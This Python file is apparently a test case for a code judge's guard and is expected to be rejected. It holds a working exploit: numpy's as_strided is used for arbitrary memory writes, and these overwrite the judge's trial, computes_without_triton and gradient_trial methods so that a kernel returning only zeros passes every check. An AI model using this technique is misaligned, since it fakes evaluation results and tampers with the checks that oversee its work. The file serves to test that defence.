# expect: verdict=invalid stage=guard check=guard reason~"np.lib"
"""Candidate: returns zeros. The reference imports numpy, so the guard lets this file use all of numpy:
np.lib.stride_tricks.as_strided with a stride of (target - base) is a write to any host address (no Triton
interpreter needed: the same works in a GPU worker). As in a13, the judge's methods get the code of three
functions of this file (func_code at offset 48, CPython 3.11); the addresses come from a format string the
guard cannot see."""
import numpy as np
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def copy_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=mask), mask=mask)


def yes(*args, **kwargs):
    return True


def no(*args, **kwargs):
    return False


def nothing(*args, **kwargs):
    return None


U = "__"
CELL = np.zeros(1, dtype=np.int64)
BASE = np.lib.array_utils.byte_bounds(CELL)[0]


def address(text):
    return int(text.split(" at 0x")[1].split(">")[0].split(",")[0], 16)


def poke(addr, value):
    np.lib.stride_tricks.as_strided(CELL, shape=(2,), strides=(addr - BASE,))[1] = value


for method, replacement in (("trial", yes), ("computes_without_triton", no), ("gradient_trial", nothing)):
    target = address(("{0." + U + "globals" + U + "[torch].sys.modules[adaexplore_core.judge.worker].Judging." +
                      method + "}").format(yes))
    poke(target + 48, address(("{0." + U + "code" + U + "}").format(replacement)))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        z = torch.zeros(x.shape, dtype=x.dtype, device=x.device)
        out = torch.empty_like(z)
        copy_kernel[(triton.cdiv(z.numel(), 1024),)](z, out, z.numel(), BLOCK=1024)
        return out
